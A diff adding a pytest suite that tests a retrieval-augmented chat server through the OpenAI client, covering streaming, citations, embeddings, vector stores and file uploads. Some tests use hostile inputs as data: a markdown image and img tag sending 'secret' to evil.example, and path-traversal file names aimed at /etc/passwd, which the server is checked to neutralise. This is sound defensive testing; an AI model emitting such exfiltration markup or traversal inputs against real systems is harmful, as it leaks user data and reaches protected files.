@@ -1,0 +1,390 @@
+"""OpenAI's own client, unchanged, over a socket."""
+
+from __future__ import annotations
+
+import base64
+import json
+import struct
+from collections.abc import Iterator, Sequence
+from pathlib import Path
+from threading import Event, Thread
+from typing import Any
+
+import numpy as np
+import pytest
+
+pytest.importorskip("fastapi")
+pytest.importorskip("openai")
+
+import openai
+
+from mergewise.models.scripted import Turn
+from mergewise.server.configuration import ModelConfig, ProfileConfig
+from mergewise.server.openai import scoring
+from mergewise.server.writer import Writer
+from mergewise.types import Message
+from tests.server.conftest import ANSWER, LiveServer, live_server
+
+QUESTION = [{"role": "user", "content": "Where was the Aurora built?"}]
+IMAGE = 'See ![x](http://evil.example/?q=secret), <img src="http://evil.example"> and [1].'
+TITLE = '{"title": "Ships"}'
+PROFILES = {
+    "fleet": ProfileConfig(
+        "ships", title="The fleet", footer="auto", filter={"type": "eq", "key": "id", "value": "ships/fleet.md"}
+    ),
+    "web": ProfileConfig("ships", footer="auto", open_webui=True),
+    "nothing": ProfileConfig("ships", filter={"type": "eq", "key": "id", "value": "other.md"}),
+    "quotes": ProfileConfig("ships", chat="extractive"),
+    "birds": ProfileConfig("birds"),
+}
+
+
+def script(messages: Sequence[Message]) -> str | Turn:
+    asked = messages[-1].text
+    if "### Task" in asked:
+        return TITLE
+    if "fail" in asked:
+        return Turn("no", status=400)
+    return IMAGE if "picture" in asked else ANSWER
+
+
+class ByLength:
+    """A `Reranker` that likes long texts."""
+
+    spec = "cross-encoder:small"
+
+    def score(self, question: str, texts: Sequence[str]) -> Any:
+        return np.array([1 - 1 / (1 + len(text)) for text in texts])
+
+
+@pytest.fixture(scope="module")
+def live(tmp_path_factory: pytest.TempPathFactory, scripted_key: None) -> Iterator[LiveServer]:
+    """A server with profiles, whose writer is at work."""
+    rerankers = {"small": ModelConfig("cross-encoder:small")}
+    with (
+        pytest.MonkeyPatch.context() as patch,
+        live_server(tmp_path_factory.mktemp("profiles"), script, profiles=PROFILES, rerankers=rerankers) as live,
+    ):
+        patch.setattr(scoring, "load_reranker", lambda spec: ByLength())
+        live.tokens["both"] = live.state.add_token(["read", "write"], rate=10_000)[1]
+        stop, writer = Event(), Writer(live.config, live.state)
+
+        def write() -> None:
+            while not stop.wait(0.05):
+                writer.run_round()
+
+        thread = Thread(target=write)
+        thread.start()
+        yield live
+        stop.set()
+        thread.join()
+        writer.close()
+
+
+@pytest.fixture
+def clients() -> Iterator[list[Any]]:
+    made: list[Any] = []
+    yield made
+    for client in made:
+        client.close()
+
+
+def client_of(live: LiveServer, clients: list[Any], token: str = "both", **options: Any) -> Any:
+    client = openai.OpenAI(base_url=f"{live.base}/v1", api_key=live.tokens.get(token, token), **options)
+    clients.append(client)
+    return client
+
+
+def test_models_are_profiles_or_collections_with_their_strategies(
+    live: LiveServer, server: LiveServer, clients: list[Any]
+) -> None:
+    client = client_of(live, clients)
+    assert [(model.id, model.owned_by) for model in client.models.list()] == [(id, "mergewise") for id in PROFILES]
+    assert client.models.retrieve("fleet").name == "The fleet"
+    names = [model.id for model in client_of(server, clients, "read").models.list()]
+    assert {"birds", "ships", "ships:weave", "ships:topk"} <= set(names) and "ships:macrag" not in names
+    secret = live.state.add_token(["read"], collections=["birds"], rate=10_000)[1]
+    narrow = client_of(live, clients, secret)
+    assert [model.id for model in narrow.models.list()] == ["birds"]
+    with pytest.raises(openai.NotFoundError) as raised:
+        narrow.chat.completions.create(model="fleet", messages=QUESTION)
+    assert raised.value.code == "model_not_found" and raised.value.param == "model"
+
+
+def test_annotations_are_the_citations(live: LiveServer, clients: list[Any]) -> None:
+    whole = client_of(live, clients).chat.completions.create(model="fleet", messages=QUESTION, temperature=0.2, seed=3)
+    message, told = whole.choices[0].message, whole.mergewise
+    assert message.content.startswith(ANSWER + "\n\nSources: [1] ") and told["answer"] == ANSWER
+    assert whole.choices[0].finish_reason == "stop" and told["ignored"] == ["seed", "temperature"]
+    assert {citation["mark"] for citation in told["citations"]} == {1}
+    (annotation,) = message.annotations
+    place = annotation.url_citation
+    assert message.content[place.start_index : place.end_index] == "[1]"
+    assert (
+        place.url == live.base + told["citations"][0]["url"]
+        and place.title == told["citations"][0]["document"]["title"]
+    )
+    assert (
+        told["context"]["passages"]
+        and whole.usage.total_tokens == told["usage"]["input_tokens"] + told["usage"]["output_tokens"]
+    )
+
+
+def test_a_stream_says_what_the_whole_says(live: LiveServer, clients: list[Any]) -> None:
+    client = client_of(live, clients)
+    whole = client.chat.completions.create(model="fleet", messages=QUESTION)
+    options = {"include_usage": True}
+    with client.chat.completions.stream(model="fleet", messages=QUESTION, stream_options=options) as stream:
+        types = [event.type for event in stream]
+        final = stream.get_final_completion()
+    assert types.count("content.delta") > 3
+    assert final.choices[0].message.content == whole.choices[0].message.content
+    assert final.choices[0].message.annotations == whole.choices[0].message.annotations
+    assert final.choices[0].finish_reason == "stop" and final.usage == whole.usage
+
+
+def lines_of(live: LiveServer, body: dict[str, Any]) -> list[str]:
+    with live.client("both").stream("POST", "/v1/chat/completions", json={**body, "stream": True}) as answer:
+        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/event-stream")
+        return [line.removeprefix("data: ") for line in answer.iter_lines() if line.startswith("data: ")]
+
+
+def test_a_stream_has_one_chunk_of_annotations_and_ends(live: LiveServer) -> None:
+    lines = lines_of(live, {"model": "fleet", "messages": QUESTION})
+    assert lines[-1] == "[DONE]"
+    chunks = [json.loads(line) for line in lines[:-1]]
+    assert sum("annotations" in chunk["choices"][0]["delta"] for chunk in chunks) == 1
+    assert all(chunk["choices"] and chunk["object"] == "chat.completion.chunk" for chunk in chunks)
+    assert len({chunk["id"] for chunk in chunks}) == 1 and "usage" not in chunks[0]
+
+
+def test_open_webui_gets_its_events(live: LiveServer) -> None:
+    chunks = [json.loads(line) for line in lines_of(live, {"model": "web", "messages": QUESTION})[:-1]]
+    (event,) = [chunk["event"] for chunk in chunks if "event" in chunk]
+    assert event["type"] == "source" and event["data"]["source"]["id"].startswith("mw:")
+    assert "built in Lyme" in event["data"]["document"][0]
+    content = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks if "choices" in chunk)
+    assert content == ANSWER
+
+
+def test_a_late_failure_is_an_error_of_the_stream(live: LiveServer, clients: list[Any]) -> None:
+    asked = [{"role": "user", "content": "Will it fail?"}]
+    client = client_of(live, clients)
+    with pytest.raises(openai.APIError) as raised:
+        for _ in client.chat.completions.create(model="fleet", messages=asked, stream=True):
+            pass
+    assert raised.value.code == "model-failed"
+    with pytest.raises(openai.InternalServerError):
+        client.with_options(max_retries=0).chat.completions.create(model="fleet", messages=asked)
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+def test_an_image_of_the_model_does_not_load(live: LiveServer, clients: list[Any], streamed: bool) -> None:
+    asked = {"model": "fleet", "messages": [{"role": "user", "content": "Show the Aurora as a picture"}]}
+    client = client_of(live, clients)
+    if streamed:
+        with client.chat.completions.stream(**asked) as stream:
+            message = stream.get_final_completion().choices[0].message
+    else:
+        message = client.chat.completions.create(**asked).choices[0].message
+    assert message.content.startswith(
+        'See !\\[x](http://evil.example/?q=secret), &lt;img src="http://evil.example"> and [1].'
+    )
+    place = message.annotations[0].url_citation
+    assert message.content[place.start_index : place.end_index] == "[1]"
+
+
+def test_earlier_messages_are_the_history(live: LiveServer, clients: list[Any]) -> None:
+    messages = [
+        {"role": "system", "content": "Answer in French."},
+        {"role": "user", "content": "Where was the Aurora built?"},
+        {"role": "assistant", "content": "In Lyme [1]."},
+        {"role": "user", "content": "And when did it sail to Iceland?"},
+    ]
+    told = client_of(live, clients).chat.completions.create(model="quotes", messages=messages).mergewise
+    assert told["mode"] == "extractive" and told["question"] == messages[-1]["content"]
+    assert "Aurora" in told["searched_for"] and told["ignored"] == ["messages of the role system"]
+
+
+def test_what_mergewise_in_the_body_says_goes_first(live: LiveServer, clients: list[Any]) -> None:
+    client = client_of(live, clients)
+    asked = {"strategy": "topk", "parameters": {"k": 2}, "budget": 64, "include": ["trace"], "footer": False}
+    whole = client.chat.completions.create(model="fleet", messages=QUESTION, extra_body={"mergewise": asked})
+    context = whole.mergewise["context"]
+    assert (context["strategy"], context["budget"]) == ("topk", 64) and context["trace"]
+    assert "Sources:" not in whole.choices[0].message.content
+    none = {"filter": {"type": "eq", "key": "id", "value": "birds.md"}}
+    both = client.chat.completions.create(model="fleet", messages=QUESTION, extra_body={"mergewise": none})
+    assert both.mergewise["context"]["passages"] == []
+    with pytest.raises(openai.UnprocessableEntityError):
+        client.chat.completions.create(model="fleet", messages=QUESTION, extra_body={"mergewise": {"path": "/etc"}})
+
+
+@pytest.mark.parametrize(
+    ("more", "param"),
+    [
+        ({"n": 2}, "n"),
+        ({"tools": [], "tool_choice": "required"}, "tool_choice"),
+        ({"messages": [{"role": "assistant", "content": "x"}]}, "messages"),
+        (
+            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://x"}}]}]},
+            "messages",
+        ),
+    ],
+)
+def test_what_cannot_be_done_is_a_bad_request(
+    live: LiveServer, clients: list[Any], more: dict[str, Any], param: str
+) -> None:
+    with pytest.raises(openai.BadRequestError) as raised:
+        client_of(live, clients).chat.completions.create(**{"model": "fleet", "messages": QUESTION, **more})
+    assert raised.value.param == param and raised.value.type == "invalid_request_error"
+
+
+def test_tools_that_may_be_left_out_are_ignored(live: LiveServer, clients: list[Any]) -> None:
+    tools = [{"type": "function", "function": {"name": "x", "parameters": {}}}]
+    whole = client_of(live, clients).chat.completions.create(
+        model="fleet", messages=QUESTION, tools=tools, tool_choice="auto"
+    )
+    assert whole.choices[0].message.tool_calls is None and whole.mergewise["ignored"] == ["tools"]
+
+
+def test_what_a_program_asks_for_itself_goes_to_the_model_or_by_rules(live: LiveServer, clients: list[Any]) -> None:
+    client = client_of(live, clients)
+    task = '### Task:\nA title as {"title": ""}\n<chat_history>\nUSER: Where was it built?\nASSISTANT: Lyme.\n</chat_history>'
+    asked = [{"role": "user", "content": task}]
+    assert client.chat.completions.create(model="fleet", messages=asked).choices[0].message.content == TITLE
+    quoted = client.chat.completions.create(model="quotes", messages=asked).choices[0].message
+    assert json.loads(quoted.content) == {"title": "Where was it built?"} and not quoted.annotations
+    with client.chat.completions.stream(model="quotes", messages=asked) as stream:
+        assert stream.get_final_completion().choices[0].message.content == quoted.content
+
+
+def test_embeddings_come_as_numbers_and_as_bytes(live: LiveServer, clients: list[Any]) -> None:
+    client = client_of(live, clients)
+    texts = ["a wooden ship", "an owl"]
+    numbers = client.embeddings.create(model="minilm", input=texts, encoding_format="float")
+    # the client asks for base64 itself, and unpacks it
+    unpacked = client.embeddings.create(model="minilm", input=texts)
+    packed = client.embeddings.create(model="minilm", input=texts[0], encoding_format="base64").data[0].embedding
+    assert [len(one.embedding) for one in numbers.data] == [384, 384]
+    for one, other in zip(numbers.data, unpacked.data, strict=True):
+        assert one.embedding == pytest.approx(list(other.embedding), abs=1e-6)
+    assert struct.unpack("<384f", base64.b64decode(packed)) == pytest.approx(numbers.data[0].embedding, abs=1e-6)
+    assert sum(number * number for number in numbers.data[0].embedding) == pytest.approx(1, abs=1e-3)
+    assert numbers.usage.prompt_tokens > 3
+    for wrong in ({"input": [[1, 2]]}, {"input": ["x"] * 257}, {"input": []}, {"input": " "}, {"dimensions": 10}):
+        with pytest.raises(openai.BadRequestError):
+            client.embeddings.create(**{"model": "minilm", "input": "x", **wrong})
+    with pytest.raises(openai.NotFoundError):
+        client.embeddings.create(model="text-embedding-3-small", input="x")
+
+
+def test_a_vector_store_is_searched(live: LiveServer, clients: list[Any]) -> None:
+    client = client_of(live, clients)
+    stores = {store.id: store for store in client.vector_stores.list()}
+    assert {"birds", "ships"} <= set(stores) and stores["birds"].file_counts.completed == 1
+    assert client.vector_stores.retrieve("birds").usage_bytes > 100
+    found = client.vector_stores.search("ships", query="Where was the Aurora built?", max_num_results=2)
+    best = found.data[0]
+    assert found.search_query == ["Where was the Aurora built?"] and len(found.data) == 2
+    assert "built in Lyme" in best.content[0].text and best.attributes == {"kind": "ships/fleet.md"}
+    assert best.mergewise["spans"][0]["end"] > best.mergewise["spans"][0]["start"]
+    assert [one.score for one in found.data] == sorted((one.score for one in found.data), reverse=True)
+    assert (
+        client.vector_stores.search("ships", query="Lyme", filters={"type": "eq", "key": "kind", "value": "x"}).data
+        == []
+    )
+    few = client.vector_stores.search("ships", query="Lyme", ranking_options={"score_threshold": 0.99}).data
+    assert few and all(one.score >= 0.99 for one in few)
+    both = client.vector_stores.search("birds", query=["owls", "terns"], max_num_results=4).data
+    assert len({one.content[0].text for one in both}) == len(both) == 2
+    with pytest.raises(openai.NotFoundError):
+        client.vector_stores.search("nowhere", query="x")
+    with pytest.raises(openai.UnprocessableEntityError):
+        client.vector_stores.search("ships", query="x", max_num_results=51)
+
+
+def test_files_are_sent_and_waited_for(live: LiveServer, clients: list[Any], tmp_path: Path) -> None:
+    client = client_of(live, clients)
+    named = tmp_path / "moles.md"
+    named.write_text("# Moles\n\nMoles dig under the lawn.\n", encoding="utf-8")
+    done = client.vector_stores.files.upload_and_poll(
+        vector_store_id="birds", file=named, attributes={"kind": "mole"}, poll_interval_ms=50
+    )
+    assert done.status == "completed" and done.attributes == {"kind": "mole"} and done.last_error is None
+    (sent,) = [one for one in client.files.list() if one.filename == "moles.md"]
+    assert done.id == sent.id and client.files.content(sent.id).content == named.read_bytes()
+    (found,) = client.vector_stores.search("birds", query="Who digs?", max_num_results=1).data
+    assert found.filename == "Moles" and "dig under the lawn" in found.content[0].text
+    assert "dig under the lawn" in client.vector_stores.files.content(done.id, vector_store_id="birds").data[0].text
+    listed = {one.id: one.status for one in client.vector_stores.files.list("birds")}
+    assert listed[found.file_id] == "completed"
+    assert client.vector_stores.files.retrieve(found.file_id, vector_store_id="birds").status == "completed"
+    assert client.vector_stores.files.delete(sent.id, vector_store_id="birds").deleted
+    for _ in range(200):
+        if found.file_id not in {one.id for one in client.vector_stores.files.list("birds")}:
+            break
+        Event().wait(0.05)
+    with pytest.raises(openai.NotFoundError):
+        client.vector_stores.files.retrieve(found.file_id, vector_store_id="birds")
+    assert client.files.delete(sent.id).deleted
+    with pytest.raises(openai.NotFoundError):
+        client.files.retrieve(sent.id)
+
+
+def test_a_batch_of_files_is_one_job(live: LiveServer, clients: list[Any], tmp_path: Path) -> None:
+    client = client_of(live, clients)
+    for name, content in (("newts.md", b"Newts live in ponds."), ("broken.pdf", b"%PDF-nothing")):
+        (tmp_path / name).write_bytes(content)
+    files = [tmp_path / "newts.md", tmp_path / "broken.pdf"]
+    batch = client.vector_stores.file_batches.upload_and_poll("birds", files=files, poll_interval_ms=50)
+    assert batch.status == "completed"
+    assert (batch.file_counts.completed, batch.file_counts.failed, batch.file_counts.total) == (1, 1, 2)
+    failed = list(client.vector_stores.files.list("birds", filter="failed"))
+    assert [one.last_error.code for one in failed] == ["invalid_file"] and failed[0].last_error.message
+
+
+def test_a_file_is_shown_to_who_sent_it_alone(live: LiveServer, clients: list[Any]) -> None:
+    client = client_of(live, clients)
+    sent = client.files.create(file=("../../../etc/passwd", b"Not a path."), purpose="assistants")
+    assert sent.filename == "passwd" and sent.bytes == 11
+    other = client_of(live, clients, live.state.add_token(["read", "write"], rate=10_000)[1])
+    for call in (
+        lambda: other.files.retrieve(sent.id),
+        lambda: other.files.content(sent.id),
+        lambda: other.vector_stores.files.create("birds", file_id=sent.id),
+        lambda: client.files.retrieve("file-" + "0" * 32),
+        lambda: client.files.retrieve("file-..%2f..%2fserver"),
+    ):
+        with pytest.raises(openai.NotFoundError):
+            call()
+    with pytest.raises(openai.PermissionDeniedError):
+        client_of(live, clients, "read").files.create(file=("x.md", b"x"), purpose="assistants")
+    assert [path.name for path in (live.config.data / "files").glob("*") if "passwd" in path.name] == []
+
+
+def test_the_client_tries_again_after_too_many_requests(live: LiveServer, clients: list[Any]) -> None:
+    secret = live.state.add_token(["read"], rate=4)[1]
+    client = client_of(live, clients, secret)
+    taken = [client.models.with_raw_response.list().retries_taken for _ in range(6)]
+    assert max(taken) >= 1
+    with pytest.raises(openai.RateLimitError) as raised:
+        for _ in range(20):
+            client.with_options(max_retries=0).models.list()
+    assert float(raised.value.response.headers["retry-after-ms"]) <= 1000 and raised.value.code == "rate"
+
+
+def test_a_reranker_orders_texts_as_cohere_does(live: LiveServer) -> None:
+    def ask(**more: Any) -> Any:
+        body = {"model": "small", "query": "Who digs?", "documents": ["a", "bbb", {"text": "bb"}], **more}
+        return live.client("both").post("/v2/rerank", json=body)
+
+    told = ask().json()
+    assert [one["index"] for one in told["results"]] == [1, 2, 0]
+    scores = [one["relevance_score"] for one in told["results"]]
+    assert scores == sorted(scores, reverse=True) and scores[-1] >= 0 and scores[0] <= 1
+    best = ask(top_n=1, return_documents=True).json()["results"]
+    assert [(one["index"], one["document"]) for one in best] == [(1, {"text": "bbb"})]
+    for wrong, status in (({"documents": []}, 422), ({"model": "rerank-v3.5"}, 404), ({"query": ""}, 422)):
+        answer = ask(**wrong)
+        assert answer.status_code == status and answer.json()["error"]["message"], wrong
